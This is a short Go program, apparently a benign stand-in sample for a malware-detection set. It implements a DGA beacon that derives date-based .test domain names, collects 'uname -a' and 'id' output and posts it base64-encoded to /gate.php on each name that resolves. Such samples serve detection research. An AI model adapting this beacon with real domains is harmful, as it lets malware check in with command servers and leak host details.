// Wild-set stand-in: a DGA beacon (harmless: .test names, bounded). Derives twelve names from
// the date, resolves each, and POSTs base64 of `uname -a` and `id` to every name that
// resolves, as a bot checking in with its rendezvous domains does. Ends after one round.
package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"os/exec"
	"time"
)

func names(day time.Time, count int) []string {
	seed := uint32(day.Year()*10000 + int(day.Month())*100 + day.Day())
	out := make([]string, 0, count)
	for i := 0; i < count; i++ {
		label := make([]byte, 0, 14)
		for j := 0; j < 10+i%4; j++ {
			seed ^= seed << 13
			seed ^= seed >> 17
			seed ^= seed << 5
			label = append(label, byte('a'+seed%26))
		}
		out = append(out, string(label)+".test")
	}
	return out
}

func main() {
	uname, _ := exec.Command("uname", "-a").Output()
	id, _ := exec.Command("id").Output()
	blob := base64.StdEncoding.EncodeToString(append(uname, id...))
	client := &http.Client{Timeout: 4 * time.Second}
	for _, name := range names(time.Now().UTC(), 12) {
		if _, err := net.LookupHost(name); err != nil {
			continue
		}
		body := bytes.NewBufferString("d=" + blob)
		resp, err := client.Post(fmt.Sprintf("http://%s/gate.php", name), "application/x-www-form-urlencoded", body)
		if err == nil {
			resp.Body.Close()
		}
	}
}
